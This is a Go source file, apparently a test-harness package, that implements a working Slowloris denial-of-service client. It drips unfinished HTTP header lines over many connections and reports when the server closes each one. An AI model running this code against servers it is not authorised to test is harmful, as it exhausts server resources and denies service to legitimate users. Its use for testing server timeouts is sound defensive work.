package adversary

import (
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// Slowloris holds an HTTP server's connections open by sending each
// request header a line at a time and never ending it: without a deadline
// on the header, every connection costs the server a goroutine and its
// buffers for as long as the client likes.
type Slowloris struct {
	start time.Time
	stop  chan struct{}
	wg    sync.WaitGroup

	mu    sync.Mutex
	conns []*slowConn
}

type slowConn struct {
	c      net.Conn
	lines  int       // header lines sent
	closed time.Time // when the server closed it; zero while open
	reply  []byte    // what the server sent before closing, if anything
}

// SlowConnReport is one connection's fate.
type SlowConnReport struct {
	Lines  int           // header lines sent before the server closed it
	Closed bool          // the server closed it
	After  time.Duration // from StartSlowloris to the close
	Reply  string        // what the server said first (up to 512 bytes)
}

// StartSlowloris connects count times to addr and on each sends a GET of
// path, then one more header line every every, until the server closes
// the connection or Stop is called. It fails, closing what it opened, if
// a connection cannot be made.
func StartSlowloris(addr, path string, count int, every time.Duration) (*Slowloris, error) {
	s := &Slowloris{start: time.Now(), stop: make(chan struct{})}
	for range count {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			s.Stop()
			return nil, err
		}
		sc := &slowConn{c: c}
		s.mu.Lock()
		s.conns = append(s.conns, sc)
		s.mu.Unlock()
		s.wg.Add(2)
		go s.drip(sc, path, every)
		go s.watch(sc)
	}
	return s, nil
}

func (s *Slowloris) drip(sc *slowConn, path string, every time.Duration) {
	defer s.wg.Done()
	if _, err := fmt.Fprintf(sc.c, "GET %s HTTP/1.1\r\nHost: x\r\n", path); err != nil {
		return
	}
	t := time.NewTicker(every)
	defer t.Stop()
	for i := 0; ; i++ {
		select {
		case <-s.stop:
			return
		case <-t.C:
		}
		if _, err := fmt.Fprintf(sc.c, "X-Slow-%d: a\r\n", i); err != nil {
			return
		}
		s.mu.Lock()
		sc.lines++
		s.mu.Unlock()
	}
}

// watch reads until the server closes the connection.
func (s *Slowloris) watch(sc *slowConn) {
	defer s.wg.Done()
	buf := make([]byte, 512)
	n, _ := io.ReadFull(sc.c, buf)
	if n < len(buf) { // an error or EOF: the connection is over
		s.mu.Lock()
		sc.closed = time.Now()
		sc.reply = buf[:n]
		s.mu.Unlock()
		sc.c.Close()
		return
	}
	s.mu.Lock()
	sc.reply = buf
	s.mu.Unlock()
	_, _ = io.Copy(io.Discard, sc.c)
	s.mu.Lock()
	sc.closed = time.Now()
	s.mu.Unlock()
	sc.c.Close()
}

// Report returns each connection's fate so far.
func (s *Slowloris) Report() []SlowConnReport {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]SlowConnReport, len(s.conns))
	for i, sc := range s.conns {
		out[i] = SlowConnReport{Lines: sc.lines, Closed: !sc.closed.IsZero(), Reply: string(sc.reply)}
		if out[i].Closed {
			out[i].After = sc.closed.Sub(s.start)
		}
	}
	return out
}

// Stop closes every connection and waits for the goroutines.
func (s *Slowloris) Stop() {
	select {
	case <-s.stop:
	default:
		close(s.stop)
	}
	s.mu.Lock()
	for _, sc := range s.conns {
		sc.c.Close()
	}
	s.mu.Unlock()
	s.wg.Wait()
}
